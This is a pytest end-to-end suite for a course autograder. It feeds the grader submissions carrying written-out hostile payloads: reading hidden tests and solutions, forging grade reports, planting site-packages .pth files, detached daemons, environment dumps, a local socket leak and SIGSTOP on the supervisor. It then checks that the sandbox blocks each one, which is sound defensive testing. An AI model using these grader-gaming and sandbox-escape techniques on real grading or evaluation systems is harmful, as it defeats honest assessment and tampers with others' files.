"""The attack suite: hostile copies graded in one SUBMISSIONS batch beside an honest classmate.

Every hostile copy tries one way to score without the answer, or to harm others (the classmate, the
instructor's tree, venv or cache, the batch itself). Graded with the sandbox (kata.judge.sandbox, real
bubblewrap), each scores no more than its honest work (none: step 10 is left undone), the classmate's
grade and files are unchanged, the instructor's files are unchanged, and no process outlives the batch.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import secrets
import shutil
import socket
import threading
import time
from pathlib import Path

import pytest

from kata.shared import cache
from kata.cli import grade as grade_cli
from kata.judge import integrity, sandbox
from kata.judge.copies import safe_folder_name
from kata.manifest import ROOT, step

pytestmark = [pytest.mark.e2e, pytest.mark.skipif(sandbox.available() is not None and not os.environ.get("CI"),
                                                  reason=f"no sandbox here: {sandbox.available()}")]

PLOT = step("plot")  # the graded step: its checks need no data and no TensorFlow (cheap), and files are written
MARKER = "KATA-ATTACK"  # in the command line of every process an attack starts
SECRET = "KATA_ATTACK_SECRET"

HEADER = f"""
import glob, os, socket, sys, time
from pathlib import Path
MARKER = {MARKER!r}
ROOT = {str(ROOT)!r}
"""

JUNK = '''

def plot_history(history, out_dir):
    return None
'''

ATTACKS = {
    # read the instructor's reference solution through the kata's own ROOT
    "read_solutions": "from kata.manifest import ROOT as R\nexec(open(Path(R) / 'solutions' / '10_plot.py').read())\n",
    # exec a classmate's file found anywhere on the machine
    "exec_classmate": "for f in glob.glob('/tmp/**/honest/exercises/10_plot.py', recursive=True) + "
                      "glob.glob('/work/**/honest/exercises/10_plot.py', recursive=True):\n    exec(open(f).read())\n",
    # overwrite every classmate's exercises it can reach
    "overwrite_classmate": "for f in glob.glob('/tmp/**/exercises/10_plot.py', recursive=True):\n"
                           "    try:\n        open(f, 'w').write('def plot_history(*a):\\n    return 0\\n')\n"
                           "    except OSError:\n        pass\n" + JUNK,
    # plant a .pth file and a module in the instructor's site-packages (every later Python would run it)
    "pth_file": "import site\nfor d in site.getsitepackages():\n    try:\n"
                "        open(os.path.join(d, 'zz_kata_attack.pth'), 'w').write('import zz_kata_attack\\n')\n"
                "        open(os.path.join(d, 'zz_kata_attack.py'), 'w').write('print(\"owned\")\\n')\n"
                "    except OSError:\n        pass\n" + JUNK,
    # overwrite the instructor's cached reference weights and data
    "poison_cache": "for f in glob.glob(ROOT + '/.kata/cache/**/*', recursive=True) + glob.glob('/tmp/**/judge/*', recursive=True):\n"
                    "    try:\n        open(f, 'wb').write(b'garbage')\n    except OSError:\n        pass\n" + JUNK,
    # a detached daemon that rewrites grades.csv after the batch
    "daemon": "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
              "        os.execv(sys.executable, [sys.executable, '-c', 'import glob, time\\n'\n"
              "                 'for _ in range(60):\\n'\n"
              "                 '    for f in glob.glob(\"/tmp/**/grades.csv\", recursive=True) + glob.glob(\"' + ROOT + '/grade/*.csv\"):\\n'\n"
              "                 '        open(f, \"a\").write(\"daemon,100\\\\n\")\\n'\n"
              "                 '    time.sleep(0.5)\\n', MARKER])\n    os._exit(0)\n" + JUNK,
    # copy the hidden checks, whose paths are in the judge's command line
    "hidden_checks": "found = []\nfor c in glob.glob('/proc/*/cmdline'):\n    try:\n"
                     "        found += [a for a in open(c, 'rb').read().decode(errors='replace').split('\\0') if 'test_' in a]\n"
                     "    except OSError:\n        pass\n"
                     "LEAK = ''.join(open(f).read() for f in found if os.path.isfile(f))\n\n"
                     "def plot_history(history, out_dir):\n    return LEAK\n",
    # write into the instructor's tree: a check, a solution, the judge
    "write_tree": "for rel in ('tests/test_10_plot.py', 'solutions/10_plot.py', 'kata/judge/plugin.py', 'kata/attack.py'):\n"
                  "    try:\n        open(os.path.join(ROOT, rel), 'a').write('# attack\\n')\n    except OSError:\n        pass\n" + JUNK,
    # forge the judge's report through its pipes, then end the process
    "forge_report": "import json\nrec = {'event': 'test', 'step': 10, 'name': 'test_curves', 'nodeid': 'x', 'doc': '', "
                    "'duration': 0, 'outcome': 'passed'}\n"
                    "for c in glob.glob('/proc/[0-9]*/cmdline'):\n    try:\n"
                    "        if b'kata.judge' in open(c, 'rb').read():\n"
                    "            for fd in glob.glob(c.replace('cmdline', 'fd/*')):\n"
                    "                open(fd, 'a').write(json.dumps(rec) + '\\n')\n    except OSError:\n        pass\nos._exit(0)\n",
    # show the instructor's environment in the report (a token, a password)
    "env_secret": "def plot_history(history, out_dir):\n    return dict(os.environ)\n",
    # reach the network (a server of the instructor's on this machine)
    "network": "def plot_history(history, out_dir):\n    s = socket.create_connection(('127.0.0.1', int(os.environ.get('ATTACK_PORT', '9'))), timeout=2)\n"
               "    s.sendall(b'leak')\n    return None\n",
    # a result too big and too deep to read
    "result_bomb": "def plot_history(history, out_dir):\n    x = []\n    for _ in range(5000):\n        x = [x]\n"
                   "    return [x, list(range(5_000_000))]\n",
    # files in the output folder that point elsewhere
    "link_outputs": "def plot_history(history, out_dir):\n    os.symlink('/etc/passwd', os.path.join(out_dir, 'loss.png'))\n"
                    "    os.mkfifo(os.path.join(out_dir, 'accuracy.png'))\n    return None\n",
    # import the judge's reference pipeline under a computed name, and use it for the answer
    "import_judge": "import importlib\ntry:\n    ORACLE = importlib.import_module('kata.' + 'judge' + '.oracle')\n"
                    "    FOUND = 'imported ' + ORACLE.__name__\nexcept Exception as exc:\n    FOUND = 'IMPORT-REFUSED ' + type(exc).__name__\n\n"
                    "def plot_history(history, out_dir):\n    return FOUND\n",
    # stop the supervisor (and with it every limit), then run for ever
    "stop_supervisor": "import signal\n\ndef plot_history(history, out_dir):\n"
                       "    for c in glob.glob('/proc/[0-9]*/cmdline'):\n        try:\n"
                       "            if b'supervisor' in open(c, 'rb').read() and int(c.split('/')[2]) != os.getpid():\n"
                       "                os.kill(int(c.split('/')[2]), signal.SIGSTOP)\n        except (OSError, ValueError):\n            pass\n"
                       "    try:\n        os.kill(os.getppid(), signal.SIGSTOP)\n    except OSError:\n        pass\n"
                       "    time.sleep(3)\n    return 'STOPPED-NOTHING'\n",
    # a double-forked daemon that eats memory while the call waits: it is the call's, and counted
    "orphan_hog": "def plot_history(history, out_dir):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
                  "            x = []\n            for _ in range(40):\n                x.append(bytearray(b'x' * 50_000_000))\n"
                  "                time.sleep(0.05)\n            time.sleep(60)\n        os._exit(0)\n    time.sleep(8)\n    return None\n",
    # rewrite its own result file with JSON nested 100,000 deep while the call ends
    "deep_result": "import threading\n\ndef _spoil(folder):\n    for _ in range(2000):\n        try:\n"
                   "            open(os.path.join(folder, 'result.json'), 'w').write('[' * 100000 + ']' * 100000)\n"
                   "        except OSError:\n            pass\n\ndef plot_history(history, out_dir):\n"
                   "    threading.Thread(target=_spoil, args=(os.path.dirname(str(out_dir)),), daemon=True).start()\n"
                   "    time.sleep(0.5)\n    return [1] * 10\n",
    # folders and links in the judge's call folders, for the calls to come
    "plant_calls": "def plot_history(history, out_dir):\n    calls = os.path.dirname(os.path.dirname(os.path.dirname(str(out_dir))))\n"
                   "    for n in range(200):\n        for name in (f'c{n}', f'c{n:016x}'):\n            try:\n"
                   "                os.symlink(os.path.join(ROOT, 'tests'), os.path.join(calls, name))\n"
                   "            except OSError:\n                pass\n    return None\n",
}


def _tree_digest(folder: Path) -> dict:
    out = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink() and "__pycache__" not in path.parts:
            out[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def _site_packages() -> set:
    import site

    return {str(p) for d in site.getsitepackages() for p in Path(d).glob("zz_kata_attack*")}


def _marked_processes() -> list[int]:
    pids = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                if MARKER.encode() in Path(f"/proc/{name}/cmdline").read_bytes():
                    pids.append(int(name))
            except OSError:
                pass
    return pids


def _our_judges() -> list[int]:
    """Judges this test process started (the batch's judge and the judges forked from it) still running."""
    pids = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                stat = Path(f"/proc/{name}/stat").read_text().rsplit(")", 1)[1].split()
                if b"kata.judge" in Path(f"/proc/{name}/cmdline").read_bytes() and stat[0] != "Z" \
                        and int(stat[1]) == os.getpid():
                    pids.append(int(name))
            except (OSError, IndexError, ValueError):
                pass
    return pids


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """The class: honest (step 10 solved), friend (stubs only), and one copy per attack; graded once."""
    from kata.cli import classroom

    base = tmp_path_factory.mktemp("attacks")
    template = base / "template"
    classroom.build(template)
    subs = base / "submissions"
    subs.mkdir()

    def copy(name: str) -> Path:
        dest = subs / name
        shutil.copytree(template, dest, symlinks=True)
        return dest

    honest = copy("honest")
    shutil.copy2(PLOT.solution(), PLOT.exercise(honest))
    copy("friend")
    for name, body in ATTACKS.items():
        PLOT.exercise(copy(name)).write_text(HEADER + body, encoding="utf-8")
    deep = copy("deep_folders")  # a folder 1,000 deep in exercises/ and in tests/
    for top in (deep / "exercises", deep / "tests"):
        fd = os.open(top, os.O_RDONLY)
        for _ in range(1000):  # one level at a time, relative to the last (no path long enough to refuse)
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
        os.close(fd)
    odd = copy("odd_names")  # file names that are not UTF-8, in a folder whose name is not UTF-8 either
    (odd / "exercises" / os.fsdecode(b"\xff\xfe.py")).write_text("x = 1\n")
    os.rename(odd, subs / os.fsdecode(b"odd\xffname"))
    linked = copy("symlink_solutions")
    PLOT.exercise(linked).unlink()
    PLOT.exercise(linked).symlink_to(PLOT.solution())
    proc_link = copy("proc_symlink")
    PLOT.test(proc_link).unlink()
    PLOT.test(proc_link).symlink_to("/proc/self/pagemap")
    os.mkfifo(proc_link / "tests" / "fifo")
    hidden = base / "hidden"
    hidden.mkdir()
    hidden_marker = f"HIDDEN-{secrets.token_hex(8)}"
    (hidden / f"test_{PLOT.slug}_hidden.py").write_text(
        f'"""{hidden_marker}"""\nfrom kata.judge.checking import OutDir\n\n\ndef test_hidden(learner):\n'
        '    """A hidden check: two figures for a history of two epochs."""\n'
        '    h = {"loss": [0.6, 0.5], "val_loss": [0.7, 0.6], "accuracy": [0.6, 0.7], "val_accuracy": [0.5, 0.6]}\n'
        '    result = learner.call("plot_history", h, OutDir())\n'
        '    assert isinstance(result, tuple) and len(result) == 2\n', encoding="utf-8")

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    connections = []
    threading.Thread(target=lambda: _accept(server, connections), daemon=True).start()

    before = {"honest": _tree_digest(honest / "exercises"), "tree": integrity.snapshot(ROOT),
              "solutions": _tree_digest(ROOT / "solutions"), "cache": _tree_digest(cache.folder("judge")),
              "site": _site_packages()}
    secret = secrets.token_hex(12)
    out = base / "grade"
    env = {SECRET: secret, "ATTACK_PORT": str(server.getsockname()[1]), "KATA_MEMORY_MB": "1200"}
    saved = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    try:
        code = grade_cli.main(["--submissions", str(subs), "--out", str(out), "--steps", str(PLOT.number),
                             "--extra-tests", str(hidden), "--jobs", "2"])
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
    time.sleep(3)  # a daemon that survived would write now
    rows = {r["learner"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
    reports = {p.parent.name: p.read_text(encoding="utf-8") for p in out.glob("*/*") if p.is_file()}
    server.close()
    yield {"code": code, "rows": rows, "out": out, "before": before, "honest": honest, "secret": secret,
           "hidden_marker": hidden_marker, "reports": reports, "connections": connections, "csv": (out / "grades.csv").read_text()}
    for top in (deep / "exercises", deep / "tests"):  # 1,000 levels: removed from the bottom up (no recursion)
        _remove_deep(top / "d")


def _remove_deep(top: Path) -> None:
    fds = [os.open(top, os.O_RDONLY)]
    while "d" in os.listdir(fds[-1]):
        fds.append(os.open("d", os.O_RDONLY, dir_fd=fds[-1]))
    for parent in reversed(fds[:-1]):
        os.close(fds.pop())
        os.rmdir("d", dir_fd=parent)
    os.close(fds.pop())
    os.rmdir(top)


def _accept(server, connections):
    while True:
        try:
            conn, _ = server.accept()
        except OSError:
            return
        connections.append(conn.recv(100))


def test_the_batch_grades_every_copy(batch):
    assert batch["code"] == 0, batch["csv"]
    expected = {"honest", "friend", "symlink_solutions", "proc_symlink", "deep_folders", "odd\\xffname", *ATTACKS}
    assert set(batch["rows"]) == expected, batch["csv"]


@pytest.mark.parametrize("name", [*ATTACKS, "symlink_solutions", "proc_symlink", "friend", "deep_folders", "odd\\xffname"])
def test_no_attack_scores(batch, name):
    row = batch["rows"][name]
    assert row["score"] not in (None, "") and float(row["score"]) == 0, row
    assert row["sandbox"] == "strict"


def test_the_honest_classmate_is_unharmed(batch):
    row = batch["rows"]["honest"]
    assert float(row["score"]) == float(row["max_score"]) == PLOT.points and row["status"] == "pass", row
    assert _tree_digest(batch["honest"] / "exercises") == batch["before"]["honest"]


def test_the_instructors_files_are_unchanged(batch):
    assert integrity.snapshot(ROOT) == batch["before"]["tree"]
    assert _tree_digest(ROOT / "solutions") == batch["before"]["solutions"]
    assert _tree_digest(cache.folder("judge")) == batch["before"]["cache"]
    assert _site_packages() == batch["before"]["site"] == set()


def test_nothing_outlives_the_batch(batch):
    assert _marked_processes() == []
    assert _our_judges() == []  # the batch's judge ends with it
    assert "daemon,100" not in batch["csv"]


def test_nothing_leaks(batch):
    everything = "\n".join(batch["reports"].values())
    assert batch["secret"] not in everything, "the instructor's environment reached a report"
    assert batch["hidden_marker"] not in everything, "a hidden check's text reached a report"
    assert batch["connections"] == [], "a learner process reached the network"


def _keys(batch, name) -> set:
    results = json.loads((batch["out"] / name / "results.json").read_text(encoding="utf-8"))
    return {t["key"] for t in results["tests"]} | {t["message"] or "" for t in results["tests"]}


def test_the_judge_is_not_in_the_sandbox(batch):
    """Its reference pipeline imported under a computed name: not there at all (the sandbox holds only the learner's
    side of the kata)."""
    messages = " ".join(m for m in _keys(batch, "import_judge") if m)
    assert "IMPORT-REFUSED ModuleNotFoundError" in messages, messages[:2000]


def test_the_supervisor_and_the_limits_are_out_of_reach(batch):
    """Stopping the supervisor does nothing (the call cannot see it); a double-forked daemon's memory is the call's
    (counted, and the call stopped); a result file spoiled while the call ends is "could not read your result",
    the learner's, never the kata's; links planted among the call folders change nothing."""
    assert "STOPPED-NOTHING" in " ".join(m for m in _keys(batch, "stop_supervisor") if m)
    assert "generic.memory_killed" in _keys(batch, "orphan_hog"), _keys(batch, "orphan_hog")
    deep = _keys(batch, "deep_result")
    assert deep & {"generic.unreadable", "generic.unsendable"} or any(k.startswith("plot.") for k in deep), deep
    assert "generic.unchecked" not in deep, deep  # the learner's doing, never the kata's fault
    for name in ATTACKS:
        rows = batch["rows"][name]
        assert rows["status"] != "error", (name, rows)


def test_a_copy_that_breaks_the_walk_costs_its_own_row(batch):
    """Folders 1,000 deep, names that are not UTF-8: each is left out and named (escaped), and the copy is graded."""
    rows = batch["rows"]
    assert "more than" in rows["deep_folders"]["flags"] and rows["deep_folders"]["status"] == "fail", rows["deep_folders"]
    assert "not UTF-8" in rows["odd\\xffname"]["flags"] and rows["odd\\xffname"]["status"] == "fail"
    assert (batch["out"] / safe_folder_name("odd\\xffname") / "results.json").exists()


def test_flags_and_left_out_files_are_reported(batch):
    rows = batch["rows"]
    assert "left out: exercises/10_plot.py (a link)" in rows["symlink_solutions"]["flags"]
    assert "names the kata's judge" not in rows["honest"]["flags"]
    assert "tests/test_10_plot.py" in rows["proc_symlink"]["integrity"]
    results = json.loads((batch["out"] / "read_solutions" / "results.json").read_text())
    assert "solutions" in " ".join(results["flags"])


SNOOP = '''

def improve(train_data, train_labels):
    """Look for the test labels where the copy's other calls cached the data, then stop and say what was found."""
    import glob
    found = []
    for where in {os.environ.get("KATA_CACHE_DIR"), os.environ.get("HOME"), os.environ.get("TMPDIR"), os.getcwd(), "/tmp"}:
        if where:
            found += glob.glob(os.path.join(where, "**", "imdb-*.npz"), recursive=True)
    cache = os.environ.get("KATA_CACHE_DIR") or ""
    raise RuntimeError(f"SNOOP found {len(set(found))} prepared data files; {cache}: {os.listdir(cache) if os.path.isdir(cache) else '-'}")
'''


def test_step_14_finds_no_test_labels_in_its_copys_cache(tmp_path):
    """Step 14 trains on data without test labels. In a batch, its learner processes see nothing of the cache
    the copy's other calls (step 1's load_data, the batch's prepared data) wrote, test labels included."""
    from kata.cli import classroom

    template = tmp_path / "template"
    classroom.build(template)
    copy = tmp_path / "submissions" / "snoop"
    shutil.copytree(template, copy, symlinks=True)
    shutil.copy2(step("load").solution(), step("load").exercise(copy))
    improve = step("improve")
    improve.exercise(copy).write_text(HEADER + SNOOP, encoding="utf-8")
    out = tmp_path / "grade"
    grade_cli.main(["--submissions", str(tmp_path / "submissions"), "--out", str(out), "--steps", f"1,{improve.number}"])
    results = (out / "snoop" / "results.json").read_text(encoding="utf-8")
    assert "SNOOP found 0 prepared data files" in results, results[-2000:]
